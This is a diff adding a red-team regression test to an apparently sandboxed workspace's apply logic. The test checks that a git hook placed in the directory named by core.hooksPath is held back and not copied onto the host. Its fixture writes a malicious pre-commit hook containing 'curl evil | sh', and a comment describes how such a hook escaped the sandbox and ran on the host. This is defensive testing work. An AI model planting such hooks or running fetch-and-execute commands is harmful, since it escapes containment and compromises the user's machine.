@@ -97,5 +97,17 @@ TEST_F(WorkspaceRedteamTest, ADamagedJournalIsSkippedAndRemoved) {
   EXPECT_FALSE(fs::exists(layout_.journal));
 }
 
+// `git config core.hooksPath .githooks` is a common set-up. .git/hooks is held back, but
+// .githooks/pre-commit was applied, and the user's next `git commit` ran it on the host.
+TEST_F(WorkspaceRedteamTest, TheHooksDirectoryGitConfigNamesIsHeldBack) {
+  write(lower() / ".git" / "config", "[core]\n\trepositoryformatversion = 0\n\thooksPath = .githooks/\n");
+  write(lower() / ".githooks" / "pre-commit", "#!/bin/sh\nmake lint\n", 0755);
+  write(upper() / ".githooks" / "pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0755);
+  auto report = apply();
+  EXPECT_EQ(read_text(lower() / ".githooks" / "pre-commit"), "#!/bin/sh\nmake lint\n");
+  ASSERT_EQ(report.held_back.size(), 1u);
+  EXPECT_EQ(report.held_back[0].first->path, ".githooks/pre-commit");
+}
+
 }  // namespace
 }  // namespace cc::test
